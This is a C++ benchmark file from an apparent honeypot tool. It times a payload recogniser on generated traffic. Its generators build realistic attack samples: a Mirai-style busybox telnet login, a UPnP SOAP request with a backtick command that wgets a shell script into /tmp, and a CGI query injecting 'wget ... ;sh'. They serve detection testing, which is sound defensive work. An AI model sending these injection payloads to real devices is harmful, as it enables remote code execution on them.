// bench_recognise [SECONDS]: payloads that one Recogniser takes in a second of one core, over a mix in the shapes of what honeypots get.
// Prints "RATE payloads/s, BYTES bytes on average"; each sort alone goes to standard error.
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <string>
#include <utility>
#include <vector>

#include "net/packet.hpp"
#include "payload/recogniser.hpp"
#include "simulate/random.hpp"

namespace {

using namespace nightjar;
using simulate::Random;
using namespace std::string_literals;

constexpr std::size_t kSize = 300, kOfEachSort = 2'000;

std::string word(Random& random, std::size_t size) {
  std::string text;
  for (std::size_t i = 0; i < size; ++i) text += static_cast<char>('a' + random.below(26));
  return text;
}
std::string host(Random& random) { return "198.51.100." + std::to_string(random.below(256)); }

/// The text with more at its end until it has 300 bytes.
std::string filled(std::string text, Random& random) {
  while (text.size() < kSize) text += word(random, 7) + " ";
  text.resize(kSize);
  return text;
}

std::string telnet(Random& random) {
  std::string text = "\xff\xfb\x1f\xff\xfa\x1f\0\x50\0\x18\xff\xf0"s + word(random, 5) + "\r\n" + word(random, 6) + "\r\n";
  text += "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox " + std::string(random.below(2) == 0 ? "MIRAI" : "ABCDE") + "\r\n";
  return text + "cat /proc/mounts; /bin/busybox " + word(random, 8) + "\r\ncd /" + word(random, 4) + "; " +
         word(random, 300 - text.size() - 60) + "\r\n";
}
std::string page(Random& random) {
  std::string text =
      "GET /" + word(random, 12) + ".php?id=" + std::to_string(random.below(1'000)) + "&page=" + word(random, 5) +
      " HTTP/1.1\r\nHost: " + host(random) +
      "\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0 Safari/537.36\r\n"
      "Accept: text/html,application/xml;q=0.9,*/*;q=0.8\r\nCookie: a=" +
      word(random, 16) + "; b=";
  return filled(std::move(text), random);
}
std::string form(Random& random) {
  return filled("POST /login.cgi HTTP/1.1\r\nHost: " + host(random) +
                    "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 150\r\n\r\nuser=" + word(random, 8) +
                    "&password=%2B%20" + word(random, 8) + "&text=",
                random);
}
std::string smb(Random& random) {
  std::string text = "\0\0\x01\x28\xffSMB\x72\0\0\0\0\x18\x53\xc8"s + std::string(22, '\0');
  while (text.size() < kSize) text += "\x02NT LM 0.12\0"s + word(random, 6) + "\0"s;
  text.resize(kSize);
  return text;
}
std::string tls(Random& random) {
  std::string text = "\x16\x03\x01\x01\x27\x01\0\x01\x23\x03\x03"s;
  while (text.size() < kSize) text += static_cast<char>(random.below(256));
  return text;
}
std::string junk(Random& random) {
  std::string text;
  while (text.size() < kSize) text += static_cast<char>(random.below(256));
  return text;
}
std::string soap(Random& random) {
  std::string text = "POST /" + word(random, 9) + ".xml HTTP/1.1\r\nHost: " + host(random) +
                     ":52869\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<s:Body><u:AddPortMapping>"
                     "<NewInternalClient>`cd /tmp;wget http://" +
                     host(random) + "/" + word(random, 5) + ".sh`</NewInternalClient></u:AddPortMapping></s:Body>";
  return filled(std::move(text), random);
}
std::string query(Random& random) {
  return filled("GET /cgi-bin/" + word(random, 8) + "?host=127.0.0.1%3Bwget+http%3A%2F%2F" + host(random) + "%2F" + word(random, 4) +
                    "%3Bsh&x=1 HTTP/1.1\r\nHost: " + host(random) + "\r\nUser-Agent: ",
                random);
}

struct Sort {
  const char* name;
  std::string (*make)(Random&);
  int parts;  ///< of a hundred
};
/// Honeypots on many ports get mostly TLS, plain requests and bytes of protocols nobody speaks; exploits are few.
constexpr Sort kSorts[] = {{"telnet", telnet, 15}, {"page", page, 25}, {"form", form, 5},          {"smb", smb, 10},
                           {"tls", tls, 15},       {"junk", junk, 10}, {"soap exploit", soap, 10}, {"unknown injection", query, 10}};

double rate(Recogniser& recogniser, const std::vector<std::string>& payloads, double seconds, std::size_t& tags) {
  const std::clock_t begin = std::clock();  // of this process, whatever else the machine does
  double passed = 0;
  std::size_t done = 0;
  while (passed < seconds) {
    for (const std::string& payload : payloads)
      tags += recogniser.recognise({reinterpret_cast<const std::uint8_t*>(payload.data()), payload.size()}, protocol::kTcp, 80).tags.size();
    done += payloads.size();
    passed = static_cast<double>(std::clock() - begin) / CLOCKS_PER_SEC;
  }
  return static_cast<double>(done) / passed;
}

}  // namespace

int main(int count, char** words) {
  const double seconds = count > 1 ? std::atof(words[1]) : 2;
  auto set = SignatureSet::load();
  auto recogniser = set ? Recogniser::make(*set) : Result<Recogniser>(set.error());
  if (!recogniser) {
    std::fprintf(stderr, "%s\n", recogniser.error().sentence.c_str());
    return 1;
  }
  Random random(7);
  std::vector<std::string> mix;
  std::size_t bytes = 0, tags = 0;
  for (const Sort& sort : kSorts) {
    std::vector<std::string> payloads;
    for (std::size_t i = 0; i < kOfEachSort * static_cast<std::size_t>(sort.parts) / 100; ++i) payloads.push_back(sort.make(random));
    std::fprintf(stderr, "%-18s %10.0f payloads/s\n", sort.name, rate(*recogniser, payloads, seconds / 8, tags));
    mix.insert(mix.end(), payloads.begin(), payloads.end());
  }
  for (std::size_t i = mix.size(); i > 1; --i) std::swap(mix[i - 1], mix[random.below(static_cast<std::uint32_t>(i))]);
  for (const std::string& payload : mix) bytes += payload.size();
  const double together = rate(*recogniser, mix, seconds, tags);
  if (tags == 0) return 1;
  std::printf("%.0f payloads/s, %zu bytes on average\n", together, bytes / mix.size());
  return 0;
}
